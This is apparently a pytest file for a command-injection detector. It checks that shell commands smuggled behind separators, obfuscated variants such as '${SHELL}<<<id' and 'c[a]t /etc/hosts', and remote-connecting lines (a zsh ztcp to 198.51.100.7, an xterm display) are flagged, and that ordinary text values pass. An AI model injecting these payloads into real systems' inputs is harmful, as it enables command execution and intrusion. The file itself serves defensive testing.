"""Families of commands: whatever program follows a separator, and what is all of a short value."""

import pytest
from asking import asking

from seawall.systems.threats.detectors.command import DETECTOR
from seawall.systems.threats.model import PlaceKind

ask = asking(DETECTOR)
ask_json = asking(DETECTOR, PlaceKind.JSON)

PROGRAMS = (
    *("env", "mount", "set", "w", "history", "dir", "ver", "ps -ef", "systeminfo", "last", "who", "users", "df -h"),
    *("free -m", "top -b -n 1", "lsof -i", "crontab -l", "ip a", "ip addr show", "export -p", "declare -p", "jobs"),
    *("tasklist /svc", "net1 user", "sc query", "query user", "tree /f", "driverquery", "gpresult /r", "getmac"),
    *("Get-Service", "docker ps", "kubectl get pods", "rpm -qa", "yum list", "pip list", "php -v", "python --version"),
    *("which python", "finger root", "tmux ls", "screen -ls", "kill -9 1234", "killall -9 httpd", "kill -9 1 2>&1"),
    *("watch -n1 id", "timeout 5 yes>/dev/null", "cat *", "ls *", "openssl version", "redis-cli info", "mkdir q"),
    *("systemctl status nginx", "useradd q", "su root", "lspci", "blkid", "hostnamectl", "ss -tlnp", "exit"),
)
BREAKS = (";{}", "; {}", "|{}", "| {}", "&& {}", "|| {}", "& {}", "10.0.0.9;{}", "q | {}", '"; {} #', "a.txt & {}")
LINES = (
    *("ipconfig /all", "ps -ef", "tail -f /var/log/syslog", "netstat -an", "cat file.txt", "ls -la", "uname -a"),
    *("useradd -m q", "getent passwd", "pwsh -c id", "expr 81 - 2", "export -p", "kill -9 123", "arp -a", "lsof -i"),
    *("free -m", "ulimit -a", "reg query hklm", "perl -e 'print 1'", "python3 -c 'print(1)'", "df -h", "ss -tlnp"),
)
OTHERS = (
    "xterm -display 198.51.100.7:1",
    "konsole -e id",
    "zsh -c 'zmodload zsh/net/tcp; ztcp 198.51.100.7 44'",
    "echo 'x'>/tmp/q.go && go run /tmp/q.go",
    ";$(tr 'A-Z' 'a-z'<<<'ID')",
    ";$(rev<<<'di')",
    ";l[s]",
    ";c[a]t /etc/hosts",
    "${LS_COLORS:10:1}id",
    ";${SHELL}<<<id",
    ";$BASH<<<id",
    "${!#}",
    ";${!@}",
    "${@id}",
    '() { (q)=>\\\' bash -c "echo q"',
)
HONEST_VALUES = (
    *(
        "Game; Set; Match",
        "id;title",
        "id;date",
        "maths|history",
        "users and groups",
        "yes; true",
        "price & label",
        "date|time|place",
        "top",
    ),
    *(
        "whoami movie",
        "cat in the hat",
        "sort by price",
        "find my order",
        "watch online",
        "python tutorial",
        "ping pong",
    ),
    *(
        "help me",
        "kill bill 2",
        "docker compose",
        "git",
        "screen protector",
        "history of art",
        "service desk",
        "ip man",
    ),
    *("free shipping", "type of wine", "who is it", "a;b;c", "screen -", "the mount; the top"),
)


@pytest.mark.parametrize("form", BREAKS)
def test_any_program_behind_a_separator_is_found(form):
    assert [program for program in PROGRAMS if ask(form.format(program))[1] < 0.75] == []


@pytest.mark.parametrize("form", BREAKS)
def test_and_in_a_string_of_json(form):
    assert [program for program in PROGRAMS if ask_json(form.format(program))[1] < 0.75] == []


@pytest.mark.parametrize("text", LINES)
def test_a_command_that_is_all_of_a_parameter_is_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize("text", ["tail -f /var/log/syslog", "ls -la", "cat file.txt", "ping -c 4 q.example"])
def test_but_not_where_developers_keep_them(text):
    assert ask_json(text)[1] < 0.75


@pytest.mark.parametrize("text", OTHERS)
def test_words_that_are_hidden_or_run_elsewhere_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize("text", HONEST_VALUES)
def test_honest_values_are_let_through(text):
    assert ask(text)[1] < 0.6
